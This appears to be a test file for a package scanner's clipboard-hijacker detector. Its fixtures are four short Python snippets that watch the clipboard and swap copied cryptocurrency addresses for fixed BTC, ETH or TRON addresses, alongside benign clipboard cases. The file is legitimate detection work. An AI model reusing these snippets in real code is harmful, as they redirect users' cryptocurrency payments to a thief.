"""Clipboard hijackers: a module that reads and writes the clipboard and holds a wallet address.

Every package here is defanged source text built in memory (the addresses are made-up strings of the
right shape, not anyone's wallet) and nothing is run."""

from __future__ import annotations

import pytest

from featurepkgs import make_archive
from vetpy.features.extract import extract_features
from vetpy.features.interface import Evidence
from vetpy.features.source.clipboard import CLIPBOARD_TOKEN, clipboard_call, wallet_constant

BTC = "bc1q" + "w508d6qejxtdg4y5r3zarvary0c5xw7k" + "vfnk9s"  # bech32 shape
ETH = "0x" + "52908400098527886E0F7030069857D2E4169EE7"
TRON = "T" + "9yD14Nj9j7xAB4dbGeiX9h8unkKHxuWwb"


def hijack(code: str) -> tuple[Evidence, ...]:
    found = extract_features(make_archive({"pkg/watch.py": code}))
    evidence = found.evidence_for(CLIPBOARD_TOKEN)
    assert bool(evidence) is (CLIPBOARD_TOKEN in found.code_text.split())
    return evidence


PYPERCLIP = (
    "import re, time, pyperclip\n"
    "def watch():\n"
    "    while True:\n"
    "        t = pyperclip.paste()\n"
    "        if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):\n"
    f"            pyperclip.copy('{BTC}')\n"
    "        time.sleep(1)\n"
)
WIN32 = (
    "import win32clipboard\n"
    f"MINE = {{'eth': '{ETH}', 'trx': '{TRON}'}}\n"
    "def swap():\n"
    "    win32clipboard.OpenClipboard()\n"
    "    data = win32clipboard.GetClipboardData()\n"
    "    if data.startswith('0x') and len(data) == 42:\n"
    "        win32clipboard.EmptyClipboard()\n"
    "        win32clipboard.SetClipboardText(MINE['eth'])\n"
    "    win32clipboard.CloseClipboard()\n"
)
COMMANDS = (
    "import subprocess\n"
    "PATTERN = r'^0x[a-fA-F0-9]{40}$'\n"
    "def loop(addr):\n"
    "    text = subprocess.check_output(['xclip', '-selection', 'clipboard', '-o']).decode()\n"
    "    subprocess.run('echo ' + addr + ' | xclip -selection clipboard', shell=True)\n"
    "    return text\n"
)
TK = (
    "import tkinter\n"
    "def run(root: tkinter.Tk):\n"
    "    text = root.clipboard_get()\n"
    "    root.clipboard_clear()\n"
    f"    root.clipboard_append('{TRON}' if text.startswith('T') else text)\n"
)


@pytest.mark.parametrize(
    ("code", "line", "what"),
    [
        (PYPERCLIP, 6, "a wallet address pattern"),
        (WIN32, 8, "an ethereum address"),
        (COMMANDS, 5, "a wallet address pattern"),
        (TK, 5, "a tron address"),
    ],
)
def test_read_write_and_a_wallet_address_is_a_hijack(code: str, line: int, what: str) -> None:
    [evidence] = hijack(code)
    assert (evidence.file, evidence.line) == ("demo-1.0/pkg/watch.py", line)
    assert what in evidence.message and "reads the clipboard" in evidence.message


@pytest.mark.parametrize(
    "code",
    [
        # read only: a command-line tool taking its input from the clipboard
        "import pyperclip, re\nADDR = re.compile(r'^0x[a-fA-F0-9]{40}$')\n"
        "def main():\n    return ADDR.match(pyperclip.paste())\n",
        # read and write: a clipboard manager
        "import pyperclip\ndef upper():\n    pyperclip.copy(pyperclip.paste().upper())\n",
        # write and an address: a wallet copying its own receive address
        f"import pyperclip\ndef share():\n    pyperclip.copy('{ETH}')\n",
        # read, write and a hex digest or a word of the right length: no address
        "import pyperclip\nD = 'd41d8cd98f00b204e9800998ecf8427ed41d8cd9'\n"
        "W = 'TheQuickBrownFoxJumpsOverTheLazyDogs'\n"
        "def f():\n    pyperclip.copy(pyperclip.paste() + D + W)\n",
    ],
)
def test_honest_clipboard_use_is_no_hijack(code: str) -> None:
    assert hijack(code) == ()


def test_clipboard_calls_and_wallet_constants() -> None:
    assert clipboard_call("pyperclip.paste") == "read" and clipboard_call("*.clipboard_append") == "write"
    assert clipboard_call("ctypes.windll.user32.GetClipboardData") == "read"
    assert clipboard_call("pyperclip.determine_clipboard") is None
    assert wallet_constant(f"  {BTC}\n") == "a bitcoin address"
    assert wallet_constant("1" + "BoatSLRHtKNngkdXEeobR76b53LETtpyT") == "a bitcoin address"
    assert wallet_constant(r"^T[A-Za-z1-9]{33}$") == "a wallet address pattern"
    assert wallet_constant("0123456789abcdef0123456789abcdef") is None
    assert wallet_constant("[a-z]{40}") is None
